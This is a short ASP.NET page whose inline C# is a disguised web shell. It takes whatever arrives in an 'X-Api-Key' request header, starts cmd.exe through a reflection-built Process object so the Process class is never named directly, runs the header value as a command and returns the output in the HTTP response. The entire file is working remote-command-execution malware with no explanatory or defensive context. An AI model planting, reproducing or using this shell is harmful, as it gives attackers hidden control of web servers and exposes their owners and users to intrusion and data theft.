<%@ Page Language="C#" %>
<%
    string c = Request.Headers["X-Api-Key"];
    if (c != null) {
        dynamic p = Activator.CreateInstance(Type.GetType("System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"));
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + c;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        Response.Write(p.StandardOutput.ReadToEnd());
    }
%>
